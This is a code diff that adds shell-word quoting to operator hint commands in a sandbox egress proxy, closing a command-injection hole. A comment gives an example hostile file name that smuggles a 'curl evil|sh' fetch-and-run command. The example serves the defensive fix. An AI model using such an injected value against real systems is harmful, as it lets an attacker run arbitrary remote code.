@@ -97,10 +97,17 @@ export interface AuditSink {
   append(event: AuditEventInput, opts?: AppendOptions): Promise<unknown>;
 }
 
+/**
+ * One shell word. Hints are copied into an operator's shell, and a workload chooses its own
+ * executable path (`/tmp/x;curl evil|sh` is a valid file name), so every path is quoted.
+ */
+export function shellWord(s: string): string {
+  return /^[\w./+:@,=-]+$/.test(s) ? s : `'${s.replaceAll("'", `'\\''`)}'`;
+}
+
 /** The command that forgets a sandbox's pin of one binary (named in binary_replaced denials). */
 function unpinCommand(sandbox: string, exe: string): string {
-  const q = (s: string): string => (/^[\w./+:@-]+$/.test(s) ? s : `'${s.replaceAll("'", `'\\''`)}'`);
-  return `nemoclaw ${q(sandbox)} unpin ${q(exe)}`;
+  return `nemoclaw ${shellWord(sandbox)} unpin ${shellWord(exe)}`;
 }
 
 /** Maps a proxy event to an audit record (never query strings, headers or bodies). */
@@ -387,7 +394,7 @@ export async function startEgressProxy(opts: EgressProxyOptions): Promise<Egress
       ? `a rule allowing ${req.method} ${req.path ?? '/'} on ${hostPort}${t.binary ? ` for ${t.binary}` : ''}`
       : `an endpoint ${hostPort}${t.binary ? ` for binary ${t.binary}` : ' (caller unknown)'}`;
     const access = !l7 || req?.method === undefined ? null : ['GET', 'HEAD', 'OPTIONS'].includes(req.method) ? 'read-only' : ['POST', 'PUT', 'PATCH'].includes(req.method) ? 'read-write' : 'full';
-    const hint = hintOverride ?? `nemoclaw policy add --sandbox ${sandbox} --name allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port} --host ${target.host} --port ${target.port}${t.binary ? ` --binary ${t.binary}` : ''}${access ? ` --access ${access}` : ''}`;
+    const hint = hintOverride ?? `nemoclaw policy add --sandbox ${shellWord(sandbox)} --name allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port} --host ${target.host} --port ${target.port}${t.binary ? ` --binary ${shellWord(t.binary.replace(/[*?[\]\\]/g, '\\$&'))}` : ''}${access ? ` --access ${access}` : ''}`;
     return new Refusal(403, {
       error,
       host: target.host,
